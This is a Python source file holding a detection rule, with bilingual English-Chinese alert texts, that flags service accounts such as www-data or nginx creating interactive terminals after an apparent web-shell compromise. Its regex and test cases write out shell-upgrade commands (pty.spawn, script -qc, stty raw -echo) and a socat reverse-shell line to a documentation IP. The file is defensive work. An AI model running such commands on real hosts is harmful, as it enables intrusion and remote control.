"""Terminals that an account of a service made itself: the second step after a web shell."""

import re
from collections.abc import Iterable, Iterator

from hemostat.detect.check import check, fires, quiet
from hemostat.detect.names import CLOSED_ACCOUNTS, SERVICE_ACCOUNTS, WORKED_IN_ACCOUNTS, words
from hemostat.detect.process_family import Family, name_values, own_subjects
from hemostat.detect.process_programs import is_interactive, is_interpreter, is_shell, program
from hemostat.model.finding import Claim, RuleTexts
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import Process
from hemostat.model.text import Text

TEXTS = RuleTexts(
    title=Text(
        en="An account of a service has a terminal of its own making",
        zh="服务账号自行创建了交互终端",
    ),
    summary=Text(
        en="Process {pid} ({exe}, account {account}, started by {parent}) {what}: somebody types "
        "commands as that service. Command: {command}",
        zh="进程 {pid}（{exe}，账号 {account}，父进程 {parent}）{what}：有人正以该服务身份输入命令"
        "。命令：{command}",
    ),
    benign=Text(
        en="Administrators become such an account by sudo, su or runuser, which then stand above "
        "the shell; a service makes no terminal.",
        zh="管理员会通过 sudo、su、runuser 切换到此类账号，此时它们是该 shell 的上级进程；"
        "服务自身不会创建终端。",
    ),
)
_MAKES = re.compile(
    r"\bpty\.(?:spawn|fork|openpty)\b|\bos\.(?:openpty|forkpty)\b|\bIO::Pty\b|\bPTY\.spawn\b"
    r"|\bscript\s+(?:-\w+\s+)*(?:-\w*c\s*\S*sh\b.*)?/dev/null|\bscript\s+(?:-\w+\s+)*-\w*c\s*\S*sh\b"
    r"|\bexec:[^\s]*sh\b[^\s]*,pty|,pty,[^\s]*exec:|\bspawn\s+(?:/\w+)*/?(?:ba|da|z)?sh\b"
    r"|\bstty\s+raw\s+-echo\b"
)
# Whoever comes this way has shown who he is, or looks on from the host's side.
_ENTRANCES = words(
    "sudo su runuser doas pkexec login sshd sshd-session sshd-auth dropbear agetty machinectl"
    " systemd-run screen tmux tmux: sudo-i setpriv capsh nsenter lxc-attach docker containerd-shim"
    " containerd-shim-runc-v2 conmon podman kubelet crio gosu su-exec xrdp-sesman ttyd"
    " cockpit-bridge start-stop-daemon jupyterhub rserver rsession jupyter-labhub sssd telnetd"
    " in.telnetd in.rlogind"
)
_FIRST_PERSON = 1_000
_PTS_FIRST, _PTS_LAST = 136, 143
_PTS = _PTS_FIRST << 8


def _process(
    pid: int, exe: str, *argv: str, ppid: int = 1, account: str = "www-data", tty: int = 0
) -> Process:
    return Process(
        pid=pid, ppid=ppid, name=exe.rpartition("/")[2], exe=HostPath(exe), argv=(exe, *argv),
        command=" ".join((exe, *argv)), account=account,
        euid={"root": 0, "li": 1000}.get(account, 33),
        tty=tty, exe_state="packaged",
    )  # fmt: skip


@check(
    "linux.process.terminal-of-service",
    level=Level.HIGH,
    confidence=Level.MEDIUM,
    category="service_terminal",
    attack=("T1059", "T1505.003"),
    incident_types=("webshell", "web_intrusion", "remote_control"),
    texts=TEXTS,
    next=("keep-evidence", "capture-process", "stop-process-tree", "find-entry"),
    by_hand="ps -o pid,ppid,tty,user,lstart,args -p {pid}; ls -l /proc/{pid}/fd",
    examples=(
        fires(_process(9, "/usr/bin/python3", "-c", "import pty;pty.spawn('/bin/bash')")),
        fires(_process(9, "/usr/bin/script", "-qc", "/bin/bash", "/dev/null", account="nginx")),
        fires(_process(9, "/usr/bin/bash", "-i", ppid=8, tty=_PTS | 3),
              _process(8, "/usr/bin/python3", "/srv/a.py")),
        fires(_process(9, "/usr/bin/dash", tty=_PTS | 3, account="nginx")),
        fires(_process(9, "/usr/bin/bash", ppid=8, tty=_PTS | 3, account="jenkins"),
              _process(8, "/usr/bin/perl", "/srv/a.pl", account="jenkins")),
        fires(_process(9, "/usr/bin/socat", "exec:/bin/bash,pty,stderr", "tcp:203.0.113.7:1")),
        quiet(_process(9, "/usr/bin/bash", ppid=8, tty=_PTS | 3),
              _process(8, "/usr/bin/sudo", "-u", "www-data", "bash", account="root")),
        quiet(_process(9, "/usr/bin/bash", ppid=8, tty=_PTS | 3, account="postgres"),
              _process(8, "/usr/bin/su", "-", "postgres", account="root")),
        quiet(_process(9, "/usr/bin/bash", "-i", tty=_PTS | 3, account="li")),
        quiet(_process(9, "/usr/bin/bash", "/srv/a.sh", ppid=8, tty=_PTS | 3),
              _process(8, "/usr/bin/php", "artisan")),
        quiet(_process(9, "/usr/bin/python3", "-c", "import pty;pty.spawn('x')", account="li")),
        quiet(_process(9, "/usr/bin/bash", "-l", ppid=8, tty=_PTS | 3, account="gitlab-runner"),
              _process(8, "/usr/bin/gitlab-runner", account="gitlab-runner")),
    ),
)  # fmt: skip
def terminal_of_service(processes: Iterable[Process]) -> Iterator[Claim]:
    """A shell without a script on a pseudo-terminal, or a program that makes one for a shell.

    Its account is a service's, and neither sudo, su nor a log-in stands above it. Medium for
    accounts in which people and jobs work.
    """
    family = Family(processes)
    for process in family.members:
        if not _is_of_service(process) or not process.scope.is_host:
            continue
        what = _what(process)
        if not what or _is_entered(process, family):
            continue
        is_worked_in = process.account in WORKED_IN_ACCOUNTS
        above = family.parent(process)
        is_made = bool(_MAKES.search(process.command[:4096])) or (
            above is not None and is_interpreter(above)
        )
        if is_worked_in and not is_made:
            continue
        yield Claim(
            subjects=own_subjects(process),
            because=(process,),
            values=name_values(process) | {"what": what},
            level=Level.MEDIUM if is_worked_in else None,
            first_seen=process.started,
            scope=process.scope,
        )


def _is_of_service(process: Process) -> bool:
    if process.euid == 0 or process.account == "root":
        return False
    if process.account in SERVICE_ACCOUNTS or process.account in CLOSED_ACCOUNTS:
        return True
    return process.euid is not None and process.euid < _FIRST_PERSON and bool(process.account)


def _what(process: Process) -> str:
    if _MAKES.search(process.command[:4096]):
        return "makes a terminal for a shell / 为 shell 创建终端"
    is_pts = _PTS_FIRST <= (process.tty >> 8) & 0xFFF <= _PTS_LAST
    if is_pts and is_shell(process) and is_interactive(process):
        return "is a shell on a pseudo-terminal / 是伪终端上的 shell"
    return ""


def _is_entered(process: Process, family: Family) -> bool:
    return any(
        program(above) in _ENTRANCES or above.name in _ENTRANCES
        for above in family.ancestors(process)
        if above.pid != 1
    )
